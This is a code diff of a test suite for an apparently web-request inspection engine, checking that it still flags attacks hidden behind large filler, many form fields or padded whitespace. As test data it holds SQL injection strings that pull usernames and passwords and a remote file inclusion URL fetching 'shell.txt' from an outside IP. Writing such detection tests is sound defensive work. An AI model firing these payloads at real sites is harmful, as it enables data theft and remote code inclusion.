@@ -3,7 +3,7 @@ import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import { createEngine, maintainedRules, ownRules } from '../src/index.ts'
 import { inspect } from './support/corpus.ts'
-import { places, post } from './support/requests.ts'
+import { get, places, post } from './support/requests.ts'
 
 const ATTACKS: Readonly<Record<string, string>> = {
   sql_injection: "1' union select username, password from users-- ",
@@ -55,9 +55,6 @@ const BODIES: Readonly<Record<string, (filler: string, attack: string) => [type:
   JSON: (filler, attack) => ['application/json', JSON.stringify({ note: filler, deep: [{ value: attack }] })],
   multipart: (filler, attack) => [`multipart/form-data; boundary=${boundary}`, multipart(filler, attack)],
 }
-/** These are told by how a value begins, so they are not looked for at the end of a longer one. */
-const BY_BEGINNING = new Set(['rfi'])
-
 for (const kilobytes of SIZES_KB)
   test(`attacks behind ${kilobytes} KB of filler`, async () => {
     const engine = createEngine([maintainedRules(), ownRules()])
@@ -66,10 +63,10 @@ for (const kilobytes of SIZES_KB)
     assert.deepEqual(places(clean), [])
     for (const [className, attack] of Object.entries(ATTACKS))
       for (const [kind, make] of Object.entries(BODIES)) {
-        if (kind === 'form, many fields' && BY_BEGINNING.has(className)) continue
         const result = await inspect(engine, post(...make(filler, attack)))
         assert.ok(result.hits.length > 0, `${className} in ${kind}`)
-        assert.equal(result.inspection, 'full', `${className} in ${kind}`)
+        const extent = kind === 'form, many fields' ? 'partial' : 'full'
+        assert.equal(result.inspection, extent, `${className} in ${kind}`)
       }
     for (const className of ['sql_injection', 'xss', 'command_injection', 'java_code_injection'])
       assert.ok(
@@ -82,3 +79,31 @@ for (const kilobytes of SIZES_KB)
         `${className} at the end of the filler`,
       )
   })
+
+test('an attack drawn out by blanks across the windows of a long value', async () => {
+  const engine = createEngine([maintainedRules(), ownRules()])
+  const note = `${fillerOf(4).slice(0, 3_380)}' UNION${' '.repeat(700)}SELECT password FROM users-- `
+  const result = await inspect(engine, post('application/json', JSON.stringify({ note })))
+  assert.ok(result.hits.some((hit) => hit.class === 'sql_injection'))
+})
+
+test('the many hits of one rule displace none of another', async () => {
+  const engine = createEngine([maintainedRules(), ownRules()])
+  const parts = Array.from(
+    { length: 420 },
+    (_, index) =>
+      `--${boundary}\r\nContent-Disposition: form-data; name="f${index}"; filename="a${index}.py"\r\n\r\nhello\r\n`,
+  )
+  const body = `${parts.join('')}${multipart('note', "1' union select username, password from users-- ")}`
+  const result = await inspect(engine, post(`multipart/form-data; boundary=${boundary}`, body))
+  assert.ok(result.hits.some((hit) => hit.class === 'sql_injection'))
+})
+
+test('a foreign URL behind many fields is known as one', async () => {
+  const engine = createEngine([maintainedRules(), ownRules()])
+  const fields = Array.from({ length: 130 }, (_, index) => `f${index}=v${index}`)
+  const target = `/?${fields.join('&')}&include_path=http://203.0.113.7/shell.txt?`
+  const result = await inspect(engine, get(target))
+  assert.ok(result.hits.length > 0)
+  assert.equal(result.inspection, 'partial')
+})
